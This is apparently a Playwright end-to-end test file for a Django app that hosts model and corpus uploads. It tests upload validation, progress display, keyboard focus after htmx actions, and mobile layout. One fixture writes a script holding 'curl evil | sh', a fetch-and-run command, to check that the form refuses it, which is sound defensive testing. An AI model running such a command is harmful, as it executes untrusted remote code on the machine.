"""In a real browser against the real server (issue #6, items 11 and 13): the upload forms name what the server
would refuse before anything is sent and show the upload's progress; after an htmx action the keyboard focus
stays where the person was; at 390 px wide no page scrolls sideways.

Run with ``scripts/test -m e2e``; see tests/e2e/conftest.py for the server and the browser.
"""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import Page, expect

from accounts import services as account_services
from projects.models import CorpusFormat, CorpusUpload, ModelUpload, Role, TestSetUpload
from tests.assets import minilm_model_dir
from tests.factories import MembershipFactory, ProjectFactory, UserFactory
from tests.support.browser import sign_in, tab_to

pytestmark = [pytest.mark.e2e, pytest.mark.slow]

PHONE = {"width": 390, "height": 844}
LONG_NAME = "all-MiniLM-L6-v2-finetuned-on-universal-dependencies-english-web-treebank-upos-v3"


def posts_sent(page: Page) -> list[str]:
    sent: list[str] = []
    page.on("request", lambda request: sent.append(request.url) if request.method == "POST" else None)
    return sent


def model_row(owner, name=LONG_NAME) -> ModelUpload:
    return ModelUpload.objects.create(
        owner=owner, name=name, sha256="c0ffee" * 10 + "beef", size_bytes=90_000_000,
        files={"config.json": "1" * 64, "model.safetensors": "2" * 64, "tokenizer_config.json": "3" * 64},
        architecture="BertModel", model_type="bert", model_kind="encoder", n_layers=6, hidden_size=384,
        n_parameters=22_713_216,
    )


def corpus_row(owner, name="en_ewt-ud-dev (universal dependencies, English web treebank)") -> CorpusUpload:
    return CorpusUpload.objects.create(
        owner=owner, name=name, sha256="d" * 64, size_bytes=1_600_000, files={"en_ewt-ud-dev.conllu": "4" * 64},
        format=CorpusFormat.CONLLU, label_column="upos", n_sentences=2001, n_words=25147, n_labels=17,
        metadata={"labels": {"NOUN": 4123, "PUNCT": 3110, "VERB": 2600}},
    )


# ---------------------------------------------------------------------------------------------- uploads


def test_files_the_server_would_refuse_are_named_before_anything_is_sent(page: Page, tmp_path):
    UserFactory(username="ada")
    sign_in(page, "ada")
    sent = posts_sent(page)
    pickle_weights = tmp_path / "pytorch_model.bin"
    pickle_weights.write_bytes(b"\x80\x04 pickled")
    script = tmp_path / "run.sh"
    script.write_text("curl evil | sh\n")
    model_dir = minilm_model_dir()

    page.goto("/projects/library/model/new/")
    page.set_input_files("#id_files", [str(pickle_weights), str(script), str(model_dir / "vocab.txt")])
    check = page.locator("#upload-form .upload-check")
    expect(check).to_be_visible()
    expect(check).to_contain_text("pytorch_model.bin: pickle-based weights")
    expect(check).to_contain_text("safe_serialization=True")
    expect(check).to_contain_text("run.sh: not a model file")
    expect(check).to_contain_text("config.json is missing")
    expect(check).not_to_contain_text("vocab.txt")
    page.screenshot(path=str(tmp_path / "refused-before-sending.png"), full_page=True)
    page.get_by_role("button", name="Upload and check").click()
    expect(check).to_be_focused()
    assert sent == []  # nothing was sent ...
    assert not ModelUpload.objects.exists()  # ... and nothing stored

    # A model folder's files as they should be, with the extras the server ignores and reports: nothing to say.
    readme, attributes = tmp_path / "README.md", tmp_path / ".gitattributes"
    readme.write_text("# model card\n")
    attributes.write_text("*.safetensors filter=lfs\n")
    page.set_input_files("#id_files", [str(model_dir / name) for name in ("config.json", "vocab.txt")]
                         + [str(readme), str(attributes)])
    expect(check).to_be_hidden()

    # Over the 4 GiB limit of one upload (a sparse file: the browser reads only its size).
    huge = tmp_path / "huge.conllu"
    with huge.open("wb") as handle:
        handle.truncate(4 * 1024**3 + 1)
    page.goto("/projects/library/corpus/new/")
    page.set_input_files("#id_file", str(huge))
    check = page.locator("#upload-form .upload-check")
    expect(check).to_contain_text("The selected files add up to 4.0 GB, over the limit of 4.0 GB for one upload.")
    page.get_by_role("button", name="Upload and check").click()
    assert sent == []
    assert not CorpusUpload.objects.exists()


def test_a_real_upload_shows_its_progress(page: Page, tmp_path):
    user = UserFactory(username="ada")
    sign_in(page, "ada")
    sentences = tmp_path / "sentences.txt"
    line = "The quick brown fox jumps over the lazy dog near the river bank .\n"
    sentences.write_text(line * (8 * 1024**2 // len(line)))  # 8 MB
    # Every text the progress line shows, reported from the page as it changes (the page moves on afterwards).
    seen: list[str] = []
    page.on("console", lambda message: seen.append(message.text) if message.text.startswith("progress:") else None)
    page.goto("/projects/library/test_set/new/")
    page.evaluate("""() => new MutationObserver(() => {
        console.log('progress:' + document.querySelector('.upload-progress__numbers').textContent);
    }).observe(document.querySelector('.upload-progress'), {subtree: true, childList: true, characterData: true})""")
    # A slow uplink (2 MB/s), so the upload takes a few seconds as a big one does.
    cdp = page.context.new_cdp_session(page)
    cdp.send("Network.enable")
    cdp.send("Network.emulateNetworkConditions", {"offline": False, "latency": 20, "downloadThroughput": -1,
                                                  "uploadThroughput": 2 * 1024**2})
    page.set_input_files("#id_file", str(sentences))
    page.get_by_role("button", name="Upload and check").click()
    progress = page.locator("#upload-form .upload-progress")
    expect(progress).to_be_visible()
    expect(progress).to_contain_text(re.compile(r"MB of 8\.0 MB · [\d.]+ [KM]B/s · about \d+ s left"))
    expect(page.get_by_role("button", name="Upload and check")).to_be_disabled()
    page.screenshot(path=str(tmp_path / "uploading.png"), full_page=True)
    page.wait_for_url(re.compile(r"/projects/library/test_set/\d+/$"), timeout=60_000)
    assert TestSetUpload.objects.filter(owner=user).count() == 1
    shown = [text.removeprefix("progress:") for text in seen]
    middle = [text for text in shown if "left" in text]
    assert len(middle) >= 3, shown  # it moved while the bytes went out ...
    assert shown[-1].startswith("8.0 MB of 8.0 MB"), shown  # ... and reached the end


# ---------------------------------------------------------------------------------------------- focus


def test_focus_stays_where_the_person_was_after_an_htmx_action(page: Page):
    owner = UserFactory(username="ada")
    project = ProjectFactory(owner=owner, name="Focus")
    model_row(owner, "First model")
    model_row(owner, "Second model")
    colleague = MembershipFactory(project=project, user=UserFactory(username="bea"), role=Role.VIEWER)
    sign_in(page, "ada")
    page.goto(project.get_absolute_url())

    # Keyboard only: choose a model, Tab to its button, Enter. The panel is swapped; focus stays on the button.
    tab_to(page, "attach-model")
    page.keyboard.press("Tab")
    add_model = page.get_by_role("button", name="Add model")
    expect(add_model).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.locator("#uploads-panel")).to_contain_text("added to the project")
    expect(page.locator("#uploads-panel table")).to_have_count(1)
    expect(add_model).to_be_focused()

    # The control is gone (the row was removed): the focus goes to the panel's heading, not to the page's top.
    page.get_by_role("button", name="Remove from project").focus()
    page.keyboard.press("Enter")
    expect(page.locator("#uploads-panel")).to_contain_text("removed from the project")
    expect(page.locator("#uploads-heading")).to_be_focused()

    # The Members page: changing a role keeps the focus on that person's button.
    page.goto(f"/projects/{project.pk}/members/")
    page.select_option(f"#role-{colleague.pk}", "editor")
    change_role = page.locator(f"form:has(#role-{colleague.pk})").get_by_role("button", name="Change role")
    change_role.focus()
    page.keyboard.press("Enter")
    expect(page.locator("#members-panel")).to_contain_text("bea is now Editor")
    expect(change_role).to_be_focused()

    # A form error: the focus goes to the field that needs fixing.
    page.fill("#id_user", "nobody-by-this-name")
    page.get_by_role("button", name="Add member").focus()
    page.keyboard.press("Enter")
    expect(page.locator("#members-panel .error")).to_be_visible()
    expect(page.locator("#id_user")).to_be_focused()


# ---------------------------------------------------------------------------------------------- small screens


def test_no_page_scrolls_sideways_at_390_px(page: Page, tmp_path):
    owner = UserFactory(username="a-person-with-a-rather-long-username")
    project = ProjectFactory(owner=owner, name="Which neurons of all-MiniLM-L6-v2 encode universal parts of speech")
    model, corpus = model_row(owner), corpus_row(owner)
    project.model_uploads.add(model)
    project.corpus_uploads.add(corpus)
    MembershipFactory(project=project, user=UserFactory(username="someone-else-with-a-long-name"), role=Role.EDITOR)
    account_services.create_token(owner, "a token for the cluster job that runs every night", None)
    page.set_viewport_size(PHONE)
    for path in ["/accounts/login/", "/accounts/signup/", "/no-such-page/"]:
        page.goto(path)
        assert_no_sideways_scroll(page, path, tmp_path)
    sign_in(page, owner.username)
    paths = [
        "/", "/projects/", project.get_absolute_url(), f"/projects/{project.pk}/members/",
        f"/projects/{project.pk}/edit/", f"/projects/{project.pk}/uploads/model/new/", "/projects/library/",
        "/projects/library/model/new/", "/projects/library/corpus/new/", "/projects/library/test_set/new/",
        f"/projects/library/model/{model.pk}/", f"/projects/library/corpus/{corpus.pk}/", "/accounts/tokens/",
        "/accounts/password_change/", "/projects/999999/",
    ]
    for path in paths:
        page.goto(path)
        assert_no_sideways_scroll(page, path, tmp_path)
    # To look at (scripts/test … --basetemp=DIR keeps them): the start page and an error page, phone and laptop.
    for size, viewport in (("390", PHONE), ("laptop", {"width": 1366, "height": 900})):
        page.set_viewport_size(viewport)
        for name, path in (("home", "/"), ("404", "/projetcs/"), ("project", project.get_absolute_url())):
            page.goto(path)
            page.screenshot(path=str(tmp_path / f"{name}-{size}.png"), full_page=True)


def assert_no_sideways_scroll(page: Page, path: str, tmp_path) -> None:
    width = page.evaluate("() => document.documentElement.scrollWidth")
    if width > PHONE["width"]:
        page.screenshot(path=str(tmp_path / "too-wide.png"), full_page=True)
        wide = page.evaluate("""() => Array.from(document.querySelectorAll('body *'))
            .filter(e => e.getBoundingClientRect().right > 391).reverse()
            .slice(0, 8).map(e => e.tagName + '.' + e.className + ' ' + Math.round(e.getBoundingClientRect().right))""")
        pytest.fail(f"{path} is {width} px wide at 390 px; widest: {wide}")


def test_a_refused_htmx_action_says_why(page: Page):
    """A 403 to an htmx request has nowhere to be swapped: the page shows the server's reason instead of doing
    nothing (here the editor became a viewer while the page was open)."""
    project = ProjectFactory(name="Roles change")
    editor = MembershipFactory(project=project, user=UserFactory(username="eddie"), role=Role.EDITOR)
    model_row(editor.user, "Eddie's model")
    sign_in(page, "eddie")
    page.goto(project.get_absolute_url())
    editor.role = Role.VIEWER
    editor.save(update_fields=["role"])
    page.get_by_role("button", name="Add model").click()
    expect(page.locator("#request-error")).to_have_text(
        "Viewers cannot change this project; ask an owner for the editor role.")
    assert not project.model_uploads.exists()


def test_after_a_refusal_from_the_server_the_focus_is_on_the_field_to_fix(page: Page, tmp_path):
    UserFactory(username="ada")
    sign_in(page, "ada")
    not_conllu = tmp_path / "notes.conllu"
    not_conllu.write_text("this line has no tab-separated columns at all\n")
    page.goto("/projects/library/corpus/new/")
    page.set_input_files("#id_file", str(not_conllu))
    page.get_by_role("button", name="Upload and check").focus()
    page.keyboard.press("Enter")
    expect(page.locator("#upload-form .field--error")).to_contain_text("notes.conllu")
    expect(page.locator("#id_file")).to_be_focused()
    assert not CorpusUpload.objects.exists()
